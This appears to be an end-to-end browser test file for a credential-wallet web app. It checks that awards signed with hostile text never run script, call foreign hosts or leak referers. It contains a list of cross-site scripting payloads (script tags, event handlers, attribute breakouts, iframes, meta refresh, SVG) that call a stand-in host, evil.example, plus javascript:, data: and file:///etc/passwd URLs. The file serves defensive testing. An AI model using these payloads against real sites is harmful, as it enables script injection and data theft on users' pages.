"""Section M, in a real browser: awards that are really signed, and want to run, to call home, or to wreck a page.

Each row of the table fills every text of an award, and with it its identifiers and addresses. All of them are kept, shared
and read; on every page that shows one nothing runs, nothing foreign is asked for, and no markup of theirs is an element.
"""

from datetime import date

import pytest

from tests.e2e.wallet_served import serving, sign_in
from tests.unit.wallet.samples import Hadleys, award
from wallet.service.share_views import Choice

pytestmark = [pytest.mark.e2e, pytest.mark.browser, pytest.mark.slow]
EVIL = "https://evil.example"
RUN = f"fetch('{EVIL}/ran');window.ran=1;alert(1)"
TEXTS = {
    "M1 script": f"<script>{RUN}</script>",
    "M1 handler": f'<img src=x onerror="{RUN}">',
    "M1 out of an attribute": f'"><svg onload="{RUN}"> \' onfocus=\'{RUN}\' autofocus x=\'',
    "M1 out of a title": f"</title></textarea></style></script><script>{RUN}</script>",
    "M1 entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "M1 template": "{{ 7 * 7 }}{% raw %}${alert(1)}#{alert(1)}<%= 7 * 7 %>",
    "M1 style": f"<style>@import '{EVIL}/a.css';body{{background:url({EVIL}/b)}}</style><link rel=stylesheet href={EVIL}/c>",
    "M1 frames": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><object data="{EVIL}/o"></object><base href="{EVIL}/">',
    "M1 forms": f'<form action="{EVIL}/f"><button autofocus>Keep it</button></form><meta http-equiv=refresh content="0;url={EVIL}">',
    "M2 markdown": f"![pixel]({EVIL}/pixel.png) [click](javascript:alert(1)) <{EVIL}/auto>",
    "M2 picture": f'<img src="{EVIL}/pixel.png"><video poster="{EVIL}/p"><source src="{EVIL}/v"></video>',
    "M4 svg": f'<svg><script href="{EVIL}/s.js"/><use href="{EVIL}/u.svg#x"/><foreignObject><img src="{EVIL}/i"></foreignObject></svg>',
    "M10 bidi": "Bridge \u202egnidliub\u202c \u2066\u2067x\u2069 \u200b\u200d\ufeff\u200f",
    "M10 combining": "Z" + "\u0354\u0337\u0359" * 400,
    "M10 long": "W" * 9000,
    "M11 verdict": "\u2714 Genuine and current \u2705 \u202eNot withdrawn",
    "M12 render method": f'<template><script>{RUN}</script></template><svg xmlns="http://www.w3.org/2000/svg"><text>{{{{name}}}}</text></svg>',
    "M13 file": '<iframe src="file:///etc/passwd"></iframe>',
}  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,alert(1)", "vbscript:x", "blob:https://evil.example/1",
    "file:///etc/passwd", "https://evil.example/'onmouseover=alert(1)",
)  # fmt: skip
"""Those that can be signed: what is no absolute address is refused by whoever signs and by whoever reads."""
LOOK = """() => ({
  ran: Boolean(window.ran),
  scripts: [...document.scripts].filter(one => !one.src.startsWith(location.origin + "/static/")).length,
  handlers: [...document.querySelectorAll("*")].filter(one => [...one.attributes].some(each => each.name.startsWith("on"))).length,
  foreign: [...document.querySelectorAll("iframe, object, embed, video, audio, base, meta[http-equiv], style, use, foreignObject")].length,
  pictures: [...document.images].filter(one => !one.src.startsWith(location.origin) && !one.src.startsWith("data:")).length,
  links: [...document.querySelectorAll("a[href]")].map(one => one.href).filter(href => !/^https?:\\/\\//.test(href)),
  wide: document.documentElement.scrollWidth > document.documentElement.clientWidth ? [...document.body.querySelectorAll("*")].filter(one => one.getBoundingClientRect().right > innerWidth + 1 && !one.children.length).map(one => one.parentElement.parentElement.className + ">" + one.parentElement.tagName + "." + one.parentElement.className + ">" + one.tagName + "." + one.className) : [],
})"""
GOOD = {
    "ran": False, "scripts": 0, "handlers": 0, "foreign": 0, "pictures": 0, "links": [], "wide": [],
}  # fmt: skip


def hostile(number, text, address):
    """An award with this text wherever text can stand."""
    return award(
        number, title=text, issuer_name=text, narrative=text,
        criteria={"id": address, "narrative": text},
        evidence=[{"id": address, "type": ["Evidence"], "name": text, "description": text, "narrative": text, "genre": text}],
    )  # fmt: skip


@pytest.fixture(scope="module")
def kept(tmp_path_factory):
    """(address, learner, the awards by row, a share of all of them)."""
    with serving(tmp_path_factory.mktemp("hostile")) as (address, services):
        family = Hadleys(services)
        awards, learner = {}, family.teresa_learner
        for number, (name, text) in enumerate(TEXTS.items(), start=1):
            data = hostile(number, text, ADDRESSES[number % len(ADDRESSES)])
            awards[name] = services.credentials.add_file(family.teresa, learner, data).credential_id
        choice = Choice(
            credential_ids=tuple(awards.values()), recipient=TEXTS["M1 handler"][:100], purpose=TEXTS["M1 script"],
            until=date(2026, 12, 1), shown_name=TEXTS["M1 out of an attribute"][:100],
        )  # fmt: skip
        made = services.shares.create(family.teresa, learner, choice)
        yield address, learner, awards, services.shares.share(family.teresa, made)


@pytest.fixture(scope="module")
def window(browser, kept):
    """A page of Teresa's on a phone, and what it asked for, said and complained of."""
    context = browser.new_context(base_url=kept[0], viewport={"width": 360, "height": 740}, locale="en-GB")
    heard = []
    context.on("request", lambda asked: None if asked.url.startswith((kept[0], "data:")) else heard.append(asked.url))
    page = context.new_page()
    page.on("dialog", lambda dialog: (heard.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("console", lambda said: heard.append(said.text) if said.type == "error" else None)
    page.on("pageerror", lambda error: heard.append(str(error)))
    sign_in(page)
    yield page, heard
    context.close()


def looked(window, path):
    page, heard = window
    page.goto(path)
    page.wait_for_load_state("networkidle")
    found = page.evaluate(LOOK)
    said, heard[:] = list(heard), []
    return found, said


def test_what_looks_at_the_pages_sees_what_runs_or_asks(browser):
    page = browser.new_context().new_page()
    page.set_content(
        """<script>window.ran = 1</script><a href="javascript:1" onclick="1">x</a><iframe></iframe>
        <img src="https://evil.example/x"><p style="width: 5000px">wide</p>"""
    )
    assert [name for name, good in GOOD.items() if page.evaluate(LOOK)[name] == good] == []
    page.context.close()


@pytest.mark.parametrize("row", TEXTS)
def test_M1_M2_M3_M4_the_page_of_such_an_award_runs_nothing_and_asks_nobody(window, kept, row):
    for path in (f"/credentials/{kept[2][row]}", f"/learners/{kept[1]}/share?pick={kept[2][row]}"):
        found, said = looked(window, path)
        assert (found, said) == (GOOD, []), path


@pytest.mark.parametrize(
    "path",
    [
        "/", "/learners/{}", "/learners/{}/awards", "/learners/{}/awards?q=script", "/learners/{}/timeline", "/learners/{}/portfolio",
        "/learners/{}/shares", "/learners/{}/bin", "/shares/{share}", "/shares/{share}/print", "/s/{token}", "/phone/copy?learner={}&codes=yes",
        "/learners/{}/awards?by=provider", "/people",
    ],
)  # fmt: skip
def test_M1_M2_M10_M11_every_list_of_such_awards_runs_nothing_and_asks_nobody(window, kept, path):
    found, said = looked(
        window, path.replace("{}", kept[1]).replace("{share}", kept[3].id).replace("{token}", kept[3].token)
    )
    assert (found, said) == (GOOD, [])


def test_M1_M2_J3_a_reader_of_such_awards_runs_nothing_asks_nobody_and_sends_no_address_along(browser, kept):
    context = browser.new_context(base_url=kept[0], viewport={"width": 360, "height": 740}, locale="en-GB")
    asked = []
    context.on("request", lambda one: asked.append(one))  # noqa: PLW0108 - the browser takes no builtin
    page = context.new_page()
    said = []
    page.on("console", lambda one: said.append(one.text) if one.type == "error" else None)
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.goto(f"/s/{kept[3].token}")
    page.get_by_role("button", name="Show the record").click()
    page.wait_for_load_state("networkidle")
    assert (page.evaluate(LOOK), said) == (GOOD, [])
    assert "Genuine and current" in page.locator("main").inner_text(), "the award says it of itself, as text"
    assert [one.url for one in asked if not one.url.startswith(kept[0])] == []
    assert [one.headers["referer"] for one in asked if kept[3].token in one.headers.get("referer", "")] == []
    context.close()


def test_J3_a_link_to_elsewhere_on_a_readers_page_names_no_referer(browser, kept):
    context = browser.new_context(base_url=kept[0])
    seen = []
    context.route(f"{EVIL}/**", lambda route: (seen.append(route.request.all_headers()), route.fulfill(body="hello")))
    page = context.new_page()
    page.goto(f"/s/{kept[3].token}")
    page.evaluate(
        "url => { const a = document.createElement('a'); a.href = url; document.body.append(a); a.click(); }",
        f"{EVIL}/out",
    )
    page.wait_for_url(f"{EVIL}/out")
    assert seen
    assert [one["referer"] for one in seen if "referer" in one] == []
    context.close()
